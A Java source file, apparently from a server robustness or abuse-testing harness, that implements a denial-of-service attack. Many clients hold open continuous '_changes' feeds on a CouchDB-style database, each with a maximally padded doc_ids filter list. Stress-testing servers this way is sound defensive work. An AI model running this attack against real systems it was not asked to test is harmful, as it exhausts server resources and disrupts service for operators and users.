package lectus.abuse;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Random;

/** Lists of document ids of the largest allowed size, for feeds that never end. */
record HugeFilters(int clients, int bytes) implements Attack {

  @Override
  public void run(Target target, Random dice, Deadline deadline) {
    String head =
        Wire.head("POST", "/large/_changes?filter=_doc_ids&feed=continuous&since=now", bytes);
    ByteBuffer list = ByteBuffer.wrap(list());
    try (Crowd crowd = new Crowd(clients, () -> Line.to(target, 0).say(head).say(list))) {
      while (!deadline.isOver()) {
        crowd.turn(64 << 10);
        deadline.pause(20);
      }
    }
  }

  private byte[] list() {
    StringBuilder ids = new StringBuilder(bytes).append("{\"doc_ids\":[\"0\"");
    for (int i = 1; ids.length() < bytes - 20; i++) {
      ids.append(",\"").append(i).append('"');
    }
    ids.append("]}");
    ids.append(" ".repeat(bytes - ids.length()));
    return ids.toString().getBytes(StandardCharsets.US_ASCII);
  }
}
